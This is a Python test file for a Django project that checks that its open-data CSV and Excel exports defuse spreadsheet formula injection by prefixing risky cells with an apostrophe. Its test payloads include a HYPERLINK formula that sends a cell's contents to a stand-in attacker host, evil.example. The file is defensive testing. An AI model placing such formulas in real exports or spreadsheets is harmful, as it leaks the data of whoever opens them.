"""Exported cells never become spreadsheet formulas: the open-data CSV and the register's
CSV and Excel exports write their cells one way (intlstrategy.spreadsheets)."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from intlstrategy import spreadsheets
from tests.partners.factories import RelationFactory

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Kaunas")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert spreadsheets.defuse(text) == "'" + text


@pytest.mark.parametrize("value", ["Kaunas", "-8.61", "-12", "1,5", 42, Decimal("-3.5"), None])
def test_text_and_numbers_stay_as_they_are(value):
    assert spreadsheets.defuse(value) == value


@pytest.mark.django_db
@pytest.mark.parametrize("text", FORMULAS)
def test_the_open_data_csv_defuses_formula_cells(client, municipality, text):
    RelationFactory(
        municipality=municipality,
        city=text,
        city_en=text,
        city_sv=text,
        city_nb=text,
        longitude=Decimal("-8.61000"),
    )
    response = client.get(
        f"/api/v1/municipalities/{municipality.slug}/twin-towns/?format=csv&lang=en"
    )
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.getvalue().decode(), newline="")))
    assert rows[0]["city"] == "'" + text
    assert rows[0]["longitude"] == "-8.61000"  # a number, not a formula


def test_the_excel_export_defuses_text_and_keeps_numbers():
    data = spreadsheets.write_xlsx(
        [["title", "grant"], ["=1+1", Decimal("-5")], ["Kaunas", None]], title="Projects" * 5
    )
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.title == ("Projects" * 5)[:31]
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["title", "grant"],
        ["'=1+1", -5],
        ["Kaunas", None],
    ]
    assert sheet["A2"].data_type == "s"
